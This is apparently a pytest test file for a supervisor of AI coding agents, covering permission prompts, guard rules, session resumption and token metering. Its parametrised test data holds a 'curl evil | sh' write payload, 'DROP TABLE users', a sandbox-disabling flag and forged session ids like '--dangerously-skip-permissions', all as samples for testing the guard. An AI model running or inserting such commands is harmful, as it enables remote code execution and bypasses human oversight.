"""A vendor that asks, reports and keeps files: dialogs answered from the room, sessions, its state and its use."""

from __future__ import annotations

import asyncio
import json
from dataclasses import fields, replace
from pathlib import Path
from typing import Any

import pytest

from fleet_tui.domain.costs import total
from fleet_tui.domain.errors import Conflict
from fleet_tui.domain.events import RunCrashed, RunQueued
from fleet_tui.domain.model import Question, Run
from fleet_tui.domain.states import Isolation, RunState
from fleet_tui.governance.guard.acts import Act
from fleet_tui.governance.isolation import Level
from fleet_tui.vendors.base import Context as Filled
from fleet_tui.vendors.claude_code import ClaudeCode
from fleet_tui.watcher import contexts, guard_desk, metering, permission_desk, sessions, starting
from fleet_tui.watcher.agents_desk import AgentsDesk
from fleet_tui.watcher.context import Context
from fleet_tui.watcher.passes import listening, runs
from fleet_tui.watcher.vendors import vendor_of
from tests.watcher.conftest import MakeFleet
from tests.watcher.watcher_support import Fleet, agent, until

SESSION = "0b6f7f7c-6a0e-5b0e-9f53-0c6d3b1b7e11"
RULES = [
    {"id": "touching", "then": "ask", "programs": ["touch"], "reason": "touching is for grown-ups"},
    {"id": "own", "then": "deny", "programs": ["git"], "verbs": ["push"], "foreign_push": True, "reason": "not yours"},
]


@pytest.fixture(autouse=True)
def short_waits(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(permission_desk, "WAIT_S", 5.0)
    monkeypatch.setattr(permission_desk, "_LOOK_S", 0.01)


async def at_work(make_fleet: MakeFleet, level: Isolation = Isolation.L1, **vendor: Any) -> tuple[Fleet, Run]:
    fleet = await make_fleet(
        [agent("dev", "developer", vendor="cc")],
        vendors={"cc": {"kind": "claude-code", "argv": ["claude"], **vendor}},
        guard={"rules": RULES},
    )
    fleet.ctx.level = Level(level, "for the test")
    await fleet.ticket()
    await fleet.settle()
    return fleet, await fleet.queued("dev")


async def call(fleet: Fleet, run: Run, op: str, **args: Any) -> dict[str, Any]:
    return await fleet.desk.answer(run.id, op, args, f"request-{len(fleet.kinds())}-{id(args)}")


async def asks(fleet: Fleet, run: Run, line: str, hook: str = "PermissionRequest", **more: Any) -> dict[str, Any]:
    command = {"tool": "Bash", "input": {"command": line}, "cwd": run.workspace, "hook": hook}
    return await call(fleet, run, "guard", **command, **more)


async def hook(fleet: Fleet, run: Run, name: str, **data: Any) -> dict[str, Any]:
    return await call(fleet, run, "hook", kind=name, data={"session_id": SESSION, **data})


def did(line: str, run: Run | None = None) -> dict[str, Any]:
    return {"tool_name": "Bash", "tool_input": {"command": line}, "cwd": run.workspace if run else "/"}


def question(fleet: Fleet) -> Question:
    (found,) = fleet.ctx.reader.questions(open_only=True)
    return found


def decision(answer: dict[str, Any]) -> Any:
    return json.loads(answer["stdout"])["hookSpecificOutput"]["decision"]


async def test_a_person_s_answer_closes_the_dialog_and_is_no_prompt(make_fleet: MakeFleet) -> None:
    fleet, run = await at_work(make_fleet)
    before = await asks(fleet, run, "touch x", "PreToolUse")
    assert json.loads(before["stdout"])["hookSpecificOutput"]["permissionDecision"] == "ask"
    assert fleet.ctx.reader.questions(open_only=True) == [], "its dialog, and the hook of that, are to come"
    assert (await asks(fleet, run, "touch x"))["verdict"] == "wait"
    assert "touch x (touching is for grown-ups)" in question(fleet).summary
    assert fleet.run(run.id).state_reason == "asks for permission: Bash"
    waiting = asyncio.create_task(asks(fleet, run, "touch x", waiting=question(fleet).id))
    await fleet.person.answer("kim", "answer", {"question": question(fleet).id, "text": "yes"})
    answer = await waiting
    assert (answer["verdict"], decision(answer)) == ("allow", {"behavior": "allow"})
    assert fleet.run(run.id).state is RunState.RUNNING
    assert fleet.ctx.reader.messages() == [], "typed into the pane it would be a prompt of its own"
    assert len(fleet.events("act_allowed")) == 1
    assert (await asks(fleet, run, "touch x"))["verdict"] == "wait", "each yes is for one time"
    waiting = asyncio.create_task(asks(fleet, run, "touch x", waiting=question(fleet).id))
    await fleet.person.answer("kim", "answer", {"question": question(fleet).id, "text": "rather not"})
    assert decision(await waiting) == {"behavior": "deny", "message": "a person said: rather not"}


@pytest.fixture
def begun(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The questions whose answers are waited for, one for each call that came so far."""
    found: list[str] = []
    real = permission_desk._answer_in_time

    async def noted(ctx: Context, run: Run, act: Act, question: str, *more: Any) -> dict[str, Any]:
        found.append(question)
        return await real(ctx, run, act, question, *more)

    monkeypatch.setattr(permission_desk, "_answer_in_time", noted)
    return found


async def test_answered_in_the_pane_nobody_waits_for_the_room(make_fleet: MakeFleet, begun: list[str]) -> None:
    fleet, run = await at_work(make_fleet)
    first = await asks(fleet, run, "touch x")
    asked = question(fleet)
    assert first == {"verdict": "wait", "question": asked.id}
    waiting = asyncio.create_task(asks(fleet, run, "touch x", waiting=asked.id))
    await until(lambda: begun == [asked.id], 40)
    await hook(fleet, run, "PostToolUse", **did("ls"))
    assert question(fleet).id == asked.id, "what ran beside it answers nothing"
    await hook(fleet, run, "PostToolUse", **did("touch x", run))
    assert (await waiting)["verdict"] == "gone"
    assert (await asks(fleet, run, "touch x", waiting=asked.id))["verdict"] == "gone", "also who asks again only now"
    assert fleet.ctx.reader.questions(open_only=True) == []
    assert fleet.run(run.id).state is RunState.RUNNING
    after = fleet.ctx.reader.question(asked.id)
    assert after is not None
    assert after.answer == "(withdrawn: it was answered in its pane)"
    assert (await asks(fleet, run, "touch x"))["question"] != asked.id, "another time is another question"


async def test_who_decides_what_no_rule_forbids(make_fleet: MakeFleet) -> None:
    fleet, run = await at_work(make_fleet, Isolation.L0)
    assert "stdout" not in await asks(fleet, run, "ls", "PreToolUse"), "outside a sandbox its own dialog may come"
    assert (await asks(fleet, run, "ls"))["verdict"] == "wait"
    assert "cc asks before it does that" in question(fleet).summary
    await fleet.reconfigure(vendors={"cc": {"kind": "claude-code", "argv": ["claude"], "asks": "guard"}})
    allowed = await asks(fleet, run, "ls", "PreToolUse")
    assert json.loads(allowed["stdout"])["hookSpecificOutput"]["permissionDecision"] == "allow"
    assert decision(await asks(fleet, run, "ls -l")) == {"behavior": "allow"}


async def test_what_is_forbidden_is_never_put_to_a_person(make_fleet: MakeFleet) -> None:
    fleet, run = await at_work(make_fleet)
    denied = await asks(fleet, run, "git push origin main")
    assert decision(denied)["behavior"] == "deny"
    assert fleet.ctx.reader.questions(open_only=True) == []
    assert (await asks(fleet, run, "git push origin main", "PreToolUse"))["verdict"] == "deny"


async def test_a_turn_that_failed_is_told(make_fleet: MakeFleet) -> None:
    fleet, run = await at_work(make_fleet)
    await hook(fleet, run, "StopFailure", error="server_error")
    assert fleet.run(run.id).state_reason == "turn failed: server_error"
    (alarm,) = fleet.alarms("turn-failed")
    assert alarm.title == "dev: its turn failed: server_error"
    await hook(fleet, run, "UserPromptSubmit")
    await hook(fleet, run, "Stop")
    assert fleet.alarms("turn-failed") == []


async def test_only_a_run_that_broke_off_is_taken_up_again(make_fleet: MakeFleet) -> None:
    fleet, run = await at_work(make_fleet)
    vendor = vendor_of(fleet.ctx, run)
    chosen, resumed = sessions.session_for(fleet.ctx, run, vendor)
    assert (sessions.session_for(fleet.ctx, run, vendor), resumed) == ((chosen, False), False)
    await hook(fleet, run, "SessionStart", source="startup")
    await hook(fleet, run, "SessionStart", source="startup")
    assert len(fleet.events("session_started")) == 1
    await fleet.ctx.say(RunCrashed(run.id, None, 9, 1000, "signalled"), f"run:{run.id}")
    await runs.replace_crashed(fleet.ctx)
    fleet.later(60)
    again = await fleet.queued("dev")
    assert sessions.session_for(fleet.ctx, again, vendor) == (SESSION, True)


async def test_one_that_began_no_session_begins_one(make_fleet: MakeFleet) -> None:
    fleet, run = await at_work(make_fleet)
    await fleet.ctx.say(RunCrashed(run.id, None, 9, 1000, "signalled"), f"run:{run.id}")
    await runs.replace_crashed(fleet.ctx)
    again = await fleet.queued("dev")
    session, resumed = sessions.session_for(fleet.ctx, again, vendor_of(fleet.ctx, again))
    assert (session != SESSION, resumed) == (True, False)


# -- what it keeps in files ------------------------------------------------------------------------------------------


def home(fleet: Fleet) -> Path:
    path = fleet.ctx.paths.homes / "dev" / ".claude"
    path.mkdir(parents=True, exist_ok=True)
    return path


def reply(name: str, tokens: int = 10) -> str:
    usage = {"input_tokens": tokens, "output_tokens": 1}
    message = {"id": name, "model": "claude-sonnet-4-5", "usage": usage}
    return json.dumps({"type": "assistant", "message": message}) + "\n"


async def listened(fleet: Fleet) -> None:
    fleet.later(3)
    await listening.listen(fleet.ctx)
    await fleet.ctx.jobs.idle()


def tokens(fleet: Fleet) -> list[int]:
    told = [event.payload["input_tokens"] for event in fleet.events("usage_reported")]
    return [count for count in told if count]


async def test_requests_are_counted_as_the_transcript_grows_and_once(make_fleet: MakeFleet) -> None:
    fleet, run = await at_work(make_fleet)
    await hook(fleet, run, "SessionStart", source="startup")
    transcript = home(fleet) / "projects" / "-ws" / f"{SESSION}.jsonl"
    transcript.parent.mkdir(parents=True)
    half = reply("msg_3")
    transcript.write_text(reply("msg_1") + reply("msg_1") + reply("msg_2", 20) + half[:30])
    await listened(fleet)
    assert tokens(fleet) == [10, 20]
    with transcript.open("a") as file:
        file.write(half[30:])
    await listened(fleet)
    assert tokens(fleet) == [10, 20, 10]
    fleet.ctx.read_up_to.clear()  # as after a restart of the watcher
    await listened(fleet)
    assert tokens(fleet) == [10, 20, 10]
    transcript.write_text(reply("msg_4", 40))  # cut and written anew
    await listened(fleet)
    with transcript.open("a") as file:
        file.write(reply("msg_5", 50))
    await listening.finish(fleet.ctx, fleet.run(run.id))
    assert tokens(fleet) == [10, 20, 10, 40, 50], "and what it said last, at its end"


async def test_escape_in_its_pane_is_seen_in_its_session_file(make_fleet: MakeFleet) -> None:
    fleet, run = await at_work(make_fleet)
    await hook(fleet, run, "SessionStart", source="startup")
    (home(fleet) / "sessions").mkdir()
    kept = home(fleet) / "sessions" / "7.json"

    def says(status: str, after_s: float) -> None:
        at_ms = (fleet.clock_ns + round(after_s * 1e9)) // 1_000_000
        kept.write_text(json.dumps({"sessionId": SESSION, "status": status, "statusUpdatedAt": at_ms}))

    says("idle", -60)
    await listened(fleet)
    assert fleet.run(run.id).state is RunState.RUNNING, "what is older than a hook's word does not count"
    says("idle", 1)
    await listened(fleet)
    now = fleet.run(run.id)
    assert (now.state, now.state_source, now.state_reason) == (RunState.WAITING, "file", "its turn was interrupted")
    says("busy", 3600)
    await listened(fleet)
    assert fleet.run(run.id).state is RunState.WAITING, "nothing comes from the future"
    says("busy", 3)
    await listened(fleet)
    assert fleet.run(run.id).state is RunState.RUNNING


async def test_an_adapter_that_breaks_is_an_alarm_and_nobody_else_s_problem(
    make_fleet: MakeFleet, monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken(*_: object) -> None:
        raise ZeroDivisionError("division by zero")

    fleet, run = await at_work(make_fleet)
    monkeypatch.setattr(ClaudeCode, "parse_hook", broken)
    assert await hook(fleet, run, "Stop") == {}
    (alarm,) = fleet.alarms("vendor")
    assert "cc" in alarm.title
    assert "division by zero" in alarm.title
    assert (await asks(fleet, run, "git push origin main", "PreToolUse"))["verdict"] == "deny", "the guard stands"


async def test_held_at_its_hook_until_a_person_answers(make_fleet: MakeFleet) -> None:
    """A vendor without a dialog that its hook could close: no answer is never a yes."""
    fleet, run = await at_work(make_fleet, kind="codex", argv=["codex"])
    assert (await asks(fleet, run, "ls", "PreToolUse"))["verdict"] == "allow"
    assert (await asks(fleet, run, "git push origin main", "PreToolUse"))["verdict"] == "deny"
    first = await asks(fleet, run, "touch x", "PreToolUse")
    assert first["verdict"] == "wait"
    waiting = asyncio.create_task(asks(fleet, run, "touch x", "PreToolUse", waiting=first["question"]))
    await fleet.person.answer("kim", "answer", {"question": first["question"], "text": "yes"})
    assert (await waiting)["verdict"] == "allow"
    second = await asks(fleet, run, "touch x", "PreToolUse")
    waiting = asyncio.create_task(asks(fleet, run, "touch x", "PreToolUse", waiting=second["question"]))
    await hook(fleet, run, "Interrupt")
    assert (await waiting)["verdict"] == "deny"
    assert fleet.run(run.id).state_reason == "interrupted"


@pytest.mark.parametrize("forged", ["--dangerously-skip-permissions", "-c", "", "a b", "../../x", 7, None])
async def test_no_session_is_called_like_an_option(make_fleet: MakeFleet, forged: object) -> None:
    """It comes back as an argument of the program that takes it up again."""
    fleet, run = await at_work(make_fleet)
    await call(fleet, run, "hook", kind="SessionStart", data={"session_id": forged, "source": "startup"})
    assert fleet.events("session_started") == []


async def test_requests_that_never_were_do_not_flood_the_log(
    make_fleet: MakeFleet, monkeypatch: pytest.MonkeyPatch
) -> None:
    fleet, run = await at_work(make_fleet)
    await hook(fleet, run, "SessionStart", source="startup")
    transcript = home(fleet) / "projects" / "-ws" / f"{SESSION}.jsonl"
    transcript.parent.mkdir(parents=True)
    transcript.write_text("".join(reply(f"msg_{number}") for number in range(5)))
    real = metering.of_a_look
    monkeypatch.setattr(metering, "of_a_look", lambda: replace(real(), requests=3))
    await listened(fleet)
    assert tokens(fleet) == [10] * 3
    await listened(fleet)
    assert tokens(fleet) == [10] * 5, "what is left waits for the next look"


async def test_what_was_broken_off_is_unknown_once_and_never_nothing(make_fleet: MakeFleet) -> None:
    fleet, run = await at_work(make_fleet, kind="opencode", argv=["opencode"])
    await call(fleet, run, "hook", kind="session.started", data={"session_id": SESSION, "reason": "startup"})
    kept = fleet.ctx.paths.homes / "dev" / ".local/share/opencode/fleet"
    kept.mkdir(parents=True)
    (kept / f"{SESSION}.jsonl").write_text('{"id": "aborted", "model": "p/m", "untold": true}\n')
    (kept / f"{SESSION}.open").write_text('{"id": "killed", "model": "p/m", "untold": true}\n')

    def untold() -> list[str]:
        told = [event.payload for event in fleet.events("usage_reported")]
        return [use["request"] for use in told if use["cost_source"] == "untold"]

    await listened(fleet)
    assert untold() == ["aborted"], "the other one may still end well"
    await listening.finish(fleet.ctx, fleet.run(run.id))
    await listening.finish(fleet.ctx, fleet.run(run.id))
    assert untold() == ["aborted", "killed"]
    found = total(fleet.ctx.reader.costs(0))
    assert (found.requests, found.untold, found.tokens, found.microusd) == (2, 2, 0, None)


async def test_a_home_that_the_agent_spoilt_is_told(make_fleet: MakeFleet) -> None:
    fleet, run = await at_work(make_fleet)
    place = fleet.ctx.paths.homes / "dev"
    place.mkdir(parents=True)
    (place / ".claude").symlink_to("/etc")
    await fleet.end(run, "stopped")
    await fleet.ctx.say(RunQueued("run-2", "dev", "developer", "cc", None, "test"), "run:run-2")
    await starting.start(fleet.ctx, fleet.run("run-2"))
    (alarm,) = fleet.alarms("start")
    assert alarm.title.startswith("dev cannot start: its settings cannot be written")


async def test_one_yes_is_for_one_of_many_who_wait(
    make_fleet: MakeFleet, begun: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Whoever has found it unused writes that down some time later, as on a slow disk."""
    real = guard_desk._say

    async def slowly(*args: Any, **words: Any) -> None:
        for _ in range(200):
            await asyncio.sleep(0)
        await real(*args, **words)

    fleet, run = await at_work(make_fleet, kind="codex", argv=["codex"])
    asked = (await asks(fleet, run, "touch x", "PreToolUse"))["question"]
    monkeypatch.setattr(guard_desk, "_say", slowly)
    waiting = [asyncio.create_task(asks(fleet, run, "touch x", "PreToolUse", waiting=asked)) for _ in range(4)]
    await until(lambda: begun == [asked] * 4, 40)
    await fleet.person.answer("kim", "answer", {"question": asked, "text": "yes"})
    verdicts = [(await one)["verdict"] for one in waiting]
    assert verdicts.count("allow") == 1


async def wants(fleet: Fleet, run: Run, tool: str, given: dict[str, Any], **more: Any) -> dict[str, Any]:
    args = {"tool": tool, "input": given, "cwd": run.workspace, "hook": "PermissionRequest"}
    return await call(fleet, run, "guard", **args, **more)


@pytest.mark.parametrize(
    ("tool", "shown", "other"),
    [
        ("mcp__db__query", {"sql": "SELECT 1"}, {"sql": "DROP TABLE users"}),
        ("WebFetch", {"url": "https://good"}, {"url": "https://evil"}),
        ("Write", {"file_path": "a.sh", "content": "echo hi"}, {"file_path": "a.sh", "content": "curl evil | sh"}),
        ("Bash", {"command": "ls"}, {"command": "ls", "dangerouslyDisableSandbox": True}),
    ],
)
async def test_a_yes_is_for_all_of_the_act_and_all_of_it_is_shown(
    make_fleet: MakeFleet, monkeypatch: pytest.MonkeyPatch, tool: str, shown: dict[str, Any], other: dict[str, Any]
) -> None:
    fleet, run = await at_work(make_fleet, Isolation.L0)
    await wants(fleet, run, tool, shown)
    asked = question(fleet)
    assert all(str(value) in asked.summary for value in shown.values())
    await fleet.person.answer("kim", "answer", {"question": asked.id, "text": "yes"})
    monkeypatch.setattr(permission_desk, "WAIT_S", 0.2)  # nobody answers the next one
    assert (await wants(fleet, run, tool, other, waiting=asked.id))["verdict"] == "wait", "that is another question"
    assert (await wants(fleet, run, tool, shown, waiting=asked.id))["verdict"] == "allow"


async def test_what_nobody_would_read_is_left_to_its_own_dialog(make_fleet: MakeFleet) -> None:
    fleet, run = await at_work(make_fleet, Isolation.L0)
    long = {"file_path": "a.txt", "content": "x" * 3000}
    assert (await wants(fleet, run, "Write", long))["verdict"] == "gone"
    assert fleet.ctx.reader.questions(open_only=True) == []
    assert fleet.run(run.id).state_reason == "asks for permission: Write"


async def test_a_question_is_over_when_it_was_answered_in_the_pane_also_after_a_restart(make_fleet: MakeFleet) -> None:
    """What the watcher remembered is gone by then; the log is not."""
    fleet, run = await at_work(make_fleet)
    line = "touch " + "ä" * 1000
    await asks(fleet, run, line)
    asked = question(fleet)
    fleet.desk = AgentsDesk(fleet.ctx)
    await hook(fleet, run, "PostToolUse", **did(line, run))
    assert fleet.ctx.reader.questions(open_only=True) == []
    with pytest.raises(Conflict):
        await fleet.person.answer("kim", "answer", {"question": asked.id, "text": "yes"})
    await asks(fleet, run, "touch y")
    await listening.finish(fleet.ctx, run)
    assert fleet.ctx.reader.questions(open_only=True) == [], "and when its run has ended"


async def test_every_session_of_a_run_is_counted(make_fleet: MakeFleet) -> None:
    fleet, run = await at_work(make_fleet)
    other = "2" * 36
    for session in (SESSION, other, SESSION, other):
        await hook(fleet, run, "SessionStart", session_id=session, source="resume")
        assert sessions.session_of(fleet.ctx, run.id) == session
    projects = home(fleet) / "projects" / "-ws"
    projects.mkdir(parents=True)
    (projects / f"{SESSION}.jsonl").write_text(reply("msg_1", 70))
    (projects / f"{other}.jsonl").write_text(reply("msg_2", 30))
    await listened(fleet)
    assert sorted(tokens(fleet)) == [30, 70]


async def test_what_an_agent_says_of_a_request_takes_no_other_s_place(make_fleet: MakeFleet) -> None:
    fleet, run = await at_work(make_fleet)
    await hook(fleet, run, "SessionStart", source="startup")
    await call(fleet, run, "usage", request_id="msg_9", input_tokens=1)
    projects = home(fleet) / "projects" / "-ws"
    projects.mkdir(parents=True)
    (projects / f"{SESSION}.jsonl").write_text(reply("msg_9", 900_000))
    await listened(fleet)
    assert tokens(fleet) == [1, 900_000]


async def test_a_program_whose_hooks_are_silent_is_told(make_fleet: MakeFleet) -> None:
    fleet, run = await at_work(make_fleet)
    await listened(fleet)
    assert fleet.alarms("silent-hooks") == [], "it may still be coming up"
    fleet.later(90)
    await listened(fleet)
    (alarm,) = fleet.alarms("silent-hooks")
    assert alarm.title == "dev: no hook of cc was heard: what it does is neither asked about nor counted"
    await hook(fleet, run, "SessionStart", source="startup")
    await listened(fleet)
    assert fleet.alarms("silent-hooks") == []


def status_line(used: int, window: int = 200_000) -> dict[str, Any]:
    return {"context_window": {"context_window_size": window, "current_usage": {"input_tokens": used}}}


async def test_how_full_its_context_is_is_told_in_steps_and_says_nothing_of_its_state(make_fleet: MakeFleet) -> None:
    fleet, run = await at_work(make_fleet)
    await hook(fleet, run, "SessionStart", source="startup")
    assert fleet.run(run.id).context_percent is None
    transcript = home(fleet) / "projects" / "-ws" / f"{SESSION}.jsonl"
    transcript.parent.mkdir(parents=True)
    transcript.write_text(reply("msg_1"))
    await listened(fleet)
    now = fleet.run(run.id)
    assert (now.context_used, now.context_window, now.context_source) == (10, None, "transcript")
    heard_ns = fleet.ctx.heard_ns[run.id]
    fleet.later(5)
    for used in (20_000, 24_000, 29_999, 30_000, 12_000):
        fleet.later(5)
        await hook(fleet, run, "StatusLine", **status_line(used))
    told = [event.payload["used"] for event in fleet.events("context_filled")]
    assert told == [10, 20_000, 30_000, 12_000], "steps of 5 %, also down after a compaction"
    assert fleet.ctx.heard_ns[run.id] == heard_ns
    with transcript.open("a") as file:
        file.write(reply("msg_2", 90_000))
    await listened(fleet)
    now = fleet.run(run.id)
    assert (now.context_percent, now.context_source) == (6, "statusline"), "who knows the window is believed"


@pytest.mark.parametrize(
    ("used", "window"), [(10**11, 1), (260_000, 200_000), (10**9, None), (10, 10**11), (5, 7), (10**11, 10**11)]
)
async def test_a_context_that_cannot_be_is_not_believed(make_fleet: MakeFleet, used: int, window: int | None) -> None:
    fleet, run = await at_work(make_fleet)
    await contexts.told(fleet.ctx, run, Filled(used, window, "statusline"))
    assert fleet.events("context_filled") == []


async def test_figures_that_jump_about_do_not_fill_the_log_and_the_last_one_counts(make_fleet: MakeFleet) -> None:
    fleet, run = await at_work(make_fleet)
    await hook(fleet, run, "SessionStart", source="startup")
    for number in range(20):
        await hook(fleet, run, "StatusLine", **status_line(10_000 + 90_000 * (number % 2), 200_000 + 50_000 * number))
    assert len(fleet.events("context_filled")) == 1
    fleet.later(3)
    await listened(fleet)
    assert [event.payload["used"] for event in fleet.events("context_filled")] == [10_000, 100_000]
    fleet.later(9)
    await hook(fleet, run, "StatusLine", **status_line(100_000, 1_150_001))
    assert len(fleet.events("context_filled")) == 2, "a window that is larger by a hair is no change"
    fleet.later(9)
    for used in (500_000, 900_000):
        await hook(fleet, run, "StatusLine", **status_line(used, 1_150_000))
    await listening.finish(fleet.ctx, run)
    assert fleet.run(run.id).context_used == 900_000, "and at its end the last one"


def test_what_was_believed_before_fills_no_screen() -> None:
    told = {field.name: None for field in fields(Run)} | {"context_used": 10**11, "context_window": 1}
    assert Run(**told).context_percent == 125  # type: ignore[arg-type]
